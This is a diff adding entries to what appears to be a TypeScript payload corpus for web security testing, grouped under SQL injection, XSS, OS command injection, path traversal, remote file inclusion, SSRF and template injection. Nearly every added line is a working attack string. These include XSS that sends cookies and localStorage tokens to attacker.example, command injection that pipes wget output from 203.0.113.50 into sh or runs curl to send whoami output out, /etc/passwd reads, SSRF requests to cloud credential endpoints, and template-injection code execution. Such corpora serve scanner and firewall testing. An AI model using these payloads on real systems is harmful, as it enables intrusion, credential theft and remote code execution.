@@ -156,6 +156,15 @@ const sqli: B[] = [
   fr("/login", "username=admin%27+OR+%271%27%3D%271&password=x"),
   q("/products", "id", "1;SELECT CASE WHEN (username='admin') THEN pg_sleep(5) ELSE pg_sleep(0) END FROM users--"),
   c("/cart", "cart_id", "5' AND 1=CAST((SELECT password FROM users LIMIT 1) AS int)--"),
+  j("/api/v1/reports/run", { groupBy: "region", orderBy: "revenue DESC; DROP TABLE audit_log--" }),
+  j("/api/v1/users/lookup", { email: "x@x.test' AND 1=(SELECT COUNT(*) FROM pg_sleep(5))--" }),
+  j("/api/v1/products/query", { filter: { price_min: "0 UNION SELECT id,email,password_hash,4 FROM customers" } }),
+  f("/account/address", "zip", "12345' AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- -", "city=Dublin"),
+  c("/catalog", "sort_pref", "price' AND extractvalue(rand(),concat(0x3a,(SELECT user())))-- "),
+  h("/api/v1/orders", "X-Tenant-Id", "acme' OR '1'='1"),
+  m("/api/v1/profile", [{ name: "nickname", value: "x' UNION SELECT password FROM users WHERE 'a'='a" }]),
+  j("/api/v1/search", `{"q":"\\u0027 OR 1=1-- ","page":1}`),
+  j("/api/v1/orders/bulk-cancel", { ids: "1,2) OR 1=1--" }, "PATCH"),
 ];
 
 // ---- XSS ---------------------------------------------------------------------------------------------
@@ -209,6 +218,14 @@ const xss: B[] = [
   q("/wiki/edit", "body", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">click</text></a></svg>"),
   q("/search", "q", "<img src=x onerror=alert`1`>"),
   x("/api/feed/import", `<?xml version="1.0"?><item><title>&lt;script&gt;alert(1)&lt;/script&gt;</title></item>`),
+  j("/api/v1/profile", { displayName: "<img src=x onerror=fetch('//attacker.example/'+localStorage.token)>" }, "PATCH"),
+  j("/api/v1/tickets", { subject: "help", body: "<svg/onload=alert(document.domain)>" }),
+  f("/comments", "author_url", "javascript:fetch('//attacker.example?c='+document.cookie)", "post_id=9&body=nice"),
+  c("/", "username", "<script>alert(1)</script>"),
+  h("/", "X-Forwarded-Host", "\"><script src=//attacker.example/x.js></script>"),
+  m("/api/v1/posts", [{ name: "title", value: "<iframe src=javascript:alert(1)>" }, { name: "body", value: "hello" }]),
+  j("/api/v1/chat/messages", { text: "[click here](javascript:alert(document.cookie))" }),
+  j("/api/v1/profile", { website: "<a href=\"jav&#x0A;ascript:alert(1)\">me</a>" }, "PUT"),
 ];
 
 // ---- OS command injection ---------------------------------------------------------------------------
@@ -264,6 +281,14 @@ const cmdi: B[] = [
   q("/tools/ping", "host", "127.0.0.1 & for /f %i in ('whoami') do nslookup %i.attacker.example"),
   q("/tools/ping", "host", "127.0.0.1 & w^h^o^a^m^i"),
   c("/dashboard", "tz", "UTC;id>/tmp/o"),
+  j("/api/v1/backups", { target: "s3://bucket/db-$(date +%F).tar.gz;curl http://203.0.113.50/$(whoami)" }),
+  j("/api/v1/git/clone", { repo: "https://github.com/example/x.git --upload-pack='touch /tmp/pwn'" }),
+  f("/admin/tools/nslookup", "domain", "example.com|type %SYSTEMROOT%\\win.ini"),
+  c("/", "country", "ie`sleep 5`"),
+  h("/cgi-bin/test.cgi", "Referer", "() { ignored; }; echo; /usr/bin/id"),
+  m("/api/v1/convert", [{ name: "options", value: "-density 300 ;wget -qO- http://203.0.113.50/i|sh" }, { name: "format", value: "png" }]),
+  j("/api/v1/images/resize", { size: "100x100\";cat /etc/passwd;\"" }),
+  fr("/ping", "ip=127.0.0.1%0acat+/etc/passwd"),
 ];
 
 // ---- LFI / path traversal ----------------------------------------------------------------------------
@@ -316,6 +341,13 @@ const lfi: B[] = [
   f("/admin/logs/view", "log", "../../../../../var/log/auth.log"),
   h("/", "X-Original-URL", "/../../../../etc/passwd"),
   x("/api/soap/docs", `<?xml version="1.0"?><getDocument><path>../../../../etc/passwd</path></getDocument>`),
+  j("/api/v1/themes/preview", { file: "..%2f..%2f..%2fetc%2fpasswd" }),
+  f("/help", "topic", "../../../../etc/passwd%00"),
+  c("/", "template", "../../../../../../windows/win.ini"),
+  h("/", "Accept-Language", "../../../../../../etc/passwd"),
+  m("/api/v1/avatars", [{ name: "file", filename: "..\\..\\..\\inetpub\\wwwroot\\x.aspx", type: "image/png", value: "x" }]),
+  j("/api/v1/export", { path: "/etc/passwd", format: "raw" }),
+  fr("/download", "file=..%252f..%252f..%252fetc%252fpasswd"),
 ];
 
 // ---- RFI -----------------------------------------------------------------------------------------------
@@ -366,6 +398,9 @@ const rfi: B[] = [
   q("/index.php", "page", "ftp://attacker.example/x.txt?"),
   f("/admin/settings.php", "template", "\\\\attacker.example@SSL\\DavWWWRoot\\x.php"),
   j("/api/v1/plugins/install", { plugin: "http://198.51.100.23/plugin.php?", activate: true }),
+  j("/api/v1/cms/widgets", { include: "http://203.0.113.50/w.txt?" }),
+  m("/admin/plugins/install.php", [{ name: "plugin_url", value: "https://attacker.example/plug.txt?" }]),
+  fr("/index.php", "page=http%3A%2F%2F198.51.100.23%2Fsh.txt%3F&submit=1"),
 ];
 
 // ---- SSRF ------------------------------------------------------------------------------------------------
@@ -419,6 +454,12 @@ const ssrf: B[] = [
   h("/api/v1/render", "X-Forwarded-Host", "169.254.169.254"),
   q("/api/v1/fetch", "url", "http://0/"),
   m("/api/v1/import/url", [{ name: "url", value: "http://0x7f.0x0.0x0.0x1:9000/minio/admin/v3/info" }]),
+  j("/api/v1/pdf", { html: "<iframe src=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\" width=800></iframe>" }),
+  j("/api/v1/oembed", { url: "http://0177.0.0.1:8080/admin" }),
+  f("/webhooks/test", "endpoint", "http://[::]:22/"),
+  m("/api/v1/import/url", [{ name: "source", value: "gopher://10.0.0.8:11211/_stats" }]),
+  j("/api/v1/webhooks", { url: "http://metadata.google.internal./computeMetadata/v1/?recursive=true" }),
+  j("/api/v1/fetch", { url: "http://instance-data/latest/meta-data/" }),
 ];
 
 // ---- XXE -------------------------------------------------------------------------------------------------
@@ -576,6 +617,8 @@ const ssti: B[] = [
   m("/api/v1/themes", [{ name: "name", value: "dark" }, { name: "footer", value: "${T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwn\")}" }]),
   q("/greet", "name", "${{7*7}}"),
   j("/api/v1/notifications/templates", { subject: "Hi {{user.name}}", body: "{{ ''.__class__.__base__.__subclasses__()[59].__init__.__globals__['sys'].modules['os'].popen('id').read() }}" }),
+  j("/api/v1/mail/preview", { subject: "{{ joiner.__init__.__globals__.os.popen('id').read() }}" }),
+  c("/", "name", "{{namespace.__init__.__globals__.os.popen('id').read()}}"),
   q("/greet", "name", "{{''.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}"),
 ];
 
